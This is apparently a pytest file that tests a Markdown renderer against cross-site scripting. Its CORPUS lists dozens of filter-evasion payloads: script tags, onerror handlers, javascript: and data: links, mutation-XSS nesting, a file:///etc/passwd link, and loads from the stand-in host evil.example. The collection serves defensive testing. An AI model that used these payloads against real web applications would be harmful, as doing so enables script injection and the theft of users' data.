"""Markdown from people: what it says is shown, and nothing in it runs, loads or sends."""

import re
import time
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt
from markupsafe import Markup

from service import markdown
from service.markdown import TAGS, escape, render

# Ways to smuggle something through Markdown or a cleaner: the OWASP XSS filter evasion and DOMPurify collections,
# and what Markdown itself makes possible.
CORPUS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<form action=https://evil.example><input name=code><button>Send</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<div style=background:url(https://evil.example)>x</div>",
    "<style>@import 'https://evil.example';</style>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x onclick=alert(1)>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<p id=main class=sv-page data-target=iframe hx-get=/leave hx-trigger=load>x</p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](http://example.org/)",
    "[x](//evil.example/)",
    "[x](/l/leave)",
    "[x](https:evil.example)",
    "[x](https://[::1)",
    "[x](?lang=lv)",
    "[x](#main)",
    '[x]( https://example.org "title" onclick=alert(1))',
    '[x](https://example.org/"onmouseover="alert(1))',
    '[x](https://example.org "\\" onmouseover=alert(1) \\"")',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '<https://example.org/"onmouseover=alert(1)//>',
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](x)',
    "[![x](https://evil.example/pixel.png)](https://example.org)",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\n```',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "* <img src=x onerror=alert(1)>",
    "> <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "{{ config }} {% include 'x' %}",
    "x\x00<script>alert(1)</script>",
    "x\u2028<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
)  # fmt: skip


class Seen(HTMLParser):
    """What a browser would see: every element with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_comment(self, data):
        self.elements.append(("comment", {}))

    def handle_decl(self, decl):
        self.elements.append(("declaration", {}))

    def handle_pi(self, data):
        self.elements.append(("instruction", {}))


def harmless(html: str) -> None:
    for tag, attributes in Seen(html).elements:
        assert tag in TAGS
        assert set(attributes) <= {"a": {"href", "rel"}, "ol": {"start"}}.get(tag, set())
        if tag == "a" and "href" in attributes:
            assert re.match(r"(https://[^/?#]|mailto:.)", attributes["href"] or "")
            assert attributes["rel"] == "noopener noreferrer"


@pytest.mark.parametrize("text", CORPUS)
def test_nothing_in_it_runs(text: str) -> None:
    harmless(render(text))
    harmless(render(f"Before\n\n{text}\n\nafter"))
    harmless(render(f"- one {text}\n  > {text} **{text}**"))


@pytest.mark.parametrize("text", CORPUS)
def test_each_of_the_two_layers_would_do_alone(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """The cleaner gets what a parser that lets everything through would make, and the parser goes without a cleaner."""
    alone = markdown._PARSER.render(text)
    assert not {tag for tag, _ in Seen(alone).elements} - TAGS - {"h1", "h5", "h6"}
    careless = MarkdownIt("commonmark", {"html": True})
    careless.validateLink = lambda _address: True
    monkeypatch.setattr(markdown, "_PARSER", careless)
    harmless(render(text))


def test_raw_html_is_shown_as_it_was_written() -> None:
    assert render("<b>not bold</b>") == "<p>&lt;b&gt;not bold&lt;/b&gt;</p>\n"


def test_a_link_elsewhere_stays_words() -> None:
    assert render("[here](http://example.org)") == "<p>[here](http://example.org)</p>\n"


@pytest.mark.parametrize("address", ["https://example.org/a?b=c&d=e", "mailto:privacy@example.org"])
def test_a_link_to_https_or_mail_leads_there(address: str) -> None:
    html = render(f"[here]({address})")
    assert Seen(html).elements == [("p", {}), ("a", {"href": address, "rel": "noopener noreferrer"})]
    assert ">here</a>" in html


def test_what_people_write_is_kept() -> None:
    html = render(
        "## Rubrik\n\nStycke med *vikt* och **tyngd**.\n\n- ett\n- två\n\n3. tre\n\n> citat\n\n`kod`\n\n---\n"
    )
    tags = [tag for tag, _ in Seen(html).elements]
    assert tags == ["h2", "p", "em", "strong", "ul", "li", "li", "ol", "li", "blockquote", "p", "p", "code", "hr"]
    assert '<ol start="3">' in html
    assert isinstance(html, Markup)


def test_the_page_keeps_its_only_first_heading() -> None:
    html = render("# a\n\n###### b\n")
    assert html == "<h2>a</h2>\n<h4>b</h4>\n"


@pytest.mark.parametrize(
    "text", [*CORPUS, "1. x", "# x", "a*b*c", "[a](https://x.example)", "a\n\n# b", "  x", "- y", "\\", "~~~"]
)
def test_an_escaped_text_reads_as_it_was(text: str) -> None:
    if "\x00" in text:
        text = text.replace("\x00", "")
    seen: list[str] = []
    parser = HTMLParser(convert_charrefs=True)
    parser.handle_data = seen.append  # type: ignore[method-assign]
    html = render(escape(text))
    parser.feed(html)
    parser.close()
    assert "".join(seen).strip() == " ".join(text.split())
    assert [tag for tag, _ in Seen(html).elements] == ["p"]


@pytest.mark.parametrize(
    "bit", ["[", "![", "*a_", "> ", "`", "<", "[a](", "&", "\\", "- ", "**a ", "[a]: x\n", "((", "&#0;"]
)
def test_a_long_nasty_text_is_quick(bit: str) -> None:
    text = bit * (20_000 // len(bit))
    began = time.process_time()
    harmless(render(text))
    assert time.process_time() - began < 5
